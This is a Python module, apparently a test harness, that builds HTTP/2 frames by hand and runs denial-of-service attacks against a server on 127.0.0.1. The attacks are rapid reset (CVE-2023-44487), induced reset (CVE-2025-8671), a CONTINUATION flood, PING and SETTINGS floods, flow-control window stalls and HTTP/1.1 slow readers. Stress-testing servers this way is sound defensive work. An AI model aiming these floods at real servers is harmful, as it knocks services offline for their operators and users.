"""HTTP/2 over TLS by hand (RFC 9113 §4, RFC 7541 §6.2.2), and the floods that only its frames
allow. An attack runs in a process of its own: it takes no time of who measures others."""
import json, os, selectors, socket, ssl, struct, subprocess, time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
STREAMS = 100


def context(protocol):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols([protocol])
    return made


TWO, ONE = context("h2"), context("http/1.1")


def certificate(folder):
    """`server.pem` and `server.key`, for 127.0.0.1."""
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                    "-days", "2", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                    "-keyout", folder + "/server.key", "-out", folder + "/server.pem"], check=True, capture_output=True)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name, value):
    """A literal without indexing; both parts are short."""
    size = len(value)
    length = bytes([size]) if size < 127 else bytes([127]) + varint(size - 127)
    return bytes([0, len(name)]) + name + length + value


def varint(rest):
    out = b""
    while rest >= 128:
        out, rest = out + bytes([rest % 128 | 128]), rest // 128
    return out + bytes([rest])


def head(path=b"/public/x"):
    return b"".join(field(*pair) for pair in [(b":method", b"GET"), (b":scheme", b"https"),
                                              (b":authority", b"127.0.0.1"), (b":path", path)])


SMALL, LARGE = head(), head(b"/public/large")


class Client:
    def __init__(self, port, window=65535):
        plain = socket.create_connection(("127.0.0.1", port), timeout=20)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.io = TWO.wrap_socket(plain)
        assert self.io.selected_alpn_protocol() == "h2"
        self.io.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        self.data = b""

    def ask(self, block, streams):
        self.io.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, block) for n in streams))

    def frames(self):
        """Waits for some bytes, and gives what is whole; none at the end of the connection."""
        piece = self.io.recv(65536)
        if not piece:
            return None
        self.data += piece
        found = []
        while len(self.data) >= 9:
            size = int.from_bytes(self.data[:3], "big")
            if len(self.data) < 9 + size:
                break
            kind, flags, stream = struct.unpack(">BBI", self.data[3:9])
            found.append((kind, flags, stream))
            self.data = self.data[9 + size:]
        return found

    def answered(self, block, n):
        """One request, to the end of its answer."""
        self.ask(block, [n])
        while found := self.frames():
            if any(kind in (DATA, HEADERS) and flags & END_STREAM and stream == 2 * n + 1 for kind, flags, stream in found):
                return True
        return False

    def is_over(self):
        """Whether it was ended, by what there is now. Reading opens no window."""
        self.io.settimeout(0)
        try:
            while True:
                found = self.frames()
                if found is None or any(kind == GOAWAY for kind, _, _ in found):
                    return True
        except ssl.SSLWantReadError:
            return False
        except OSError:
            return True
        finally:
            self.io.settimeout(20)


def apart(attack):
    """Begins an attack in a child; what `wait` takes."""
    out, into = os.pipe()
    child = os.fork()
    if child:
        os.close(into)
        return child, out
    try:
        os.close(out)
        os.write(into, json.dumps(attack()).encode())
        os._exit(0)
    except BaseException as error:
        os.write(into, json.dumps({"error": repr(error)}).encode())
    finally:
        os._exit(1)


def is_running(attack):
    with selectors.DefaultSelector() as ready:
        ready.register(attack[1], selectors.EVENT_READ)
        return not ready.select(0)


def result(attack):
    child, out = attack
    with os.fdopen(out) as file:
        said = json.loads(file.read())
    os.waitpid(child, 0)
    assert "error" not in said, said
    return said


def windows(port, count, window, within):
    """Answers that nobody takes: no window at all, or a byte now and then. Until each
    connection was ended."""
    held = []
    for _ in range(count):
        client = Client(port, window)
        client.ask(LARGE, range(STREAMS))
        held.append(client)
    opened = start = time.monotonic()
    sips = b"".join(frame(WINDOW_UPDATE, 0, 2 * n + 1, struct.pack(">I", 1)) for n in range(STREAMS))
    while held and time.monotonic() - start < within:
        time.sleep(0.25)
        held = [client for client in held if not client.is_over()]
        for client in held if window else []:
            try:
                client.io.sendall(sips)
            except OSError:
                pass
    return {"left": len(held), "took": time.monotonic() - opened}


def reset(n):
    """CVE-2023-44487."""
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, SMALL) + frame(RST_STREAM, 0, 2 * n + 1, struct.pack(">I", 8))


def made_reset(n):
    """CVE-2025-8671: an update of nothing, which makes the server reset the stream."""
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, SMALL) + frame(WINDOW_UPDATE, 0, 2 * n + 1, bytes(4))


def continuation(n):
    """RUSTSEC-2024-0332: a block that does not end."""
    block = field(b"x-%d" % (n % 10), b"y" * 200)
    return frame(CONTINUATION, 0, 1, block) if n else frame(HEADERS, END_STREAM, 1, SMALL + block)


def ping(_):
    return frame(PING, 0, 0, bytes(8))


def settings(_):
    return frame(SETTINGS, 0, 0)


def frames(port, make, rate, seconds):
    """So many a second, on the next connection when one was ended."""
    start, sent, most, connections = time.monotonic(), 0, 0, 0
    client = n = None
    while (passed := time.monotonic() - start) < seconds:
        if client is None:
            client, n, connections = Client(port), 0, connections + 1
        batch = min(max(0, int(passed * rate) - sent), 50)
        try:
            client.io.sendall(b"".join(make(n + more) for more in range(batch)))
            over = client.is_over()
        except OSError:
            over = True
        sent, n = sent + batch, n + batch
        most = max(most, n)
        if over:
            client.io.close()
            client = None
        else:
            time.sleep(0.01)
    return {"sent": sent, "connections": connections, "most": most}


def readers(port, count, within):
    """HTTP/1.1: a large answer of which a byte a second is taken."""
    held = []
    for _ in range(count):
        io = socket.socket()
        io.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        io.settimeout(20)
        io.connect(("127.0.0.1", port))
        io = ONE.wrap_socket(io)
        io.sendall(b"GET /public/large HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        held.append(io)
    time.sleep(within)
    return {"held": len(held)}
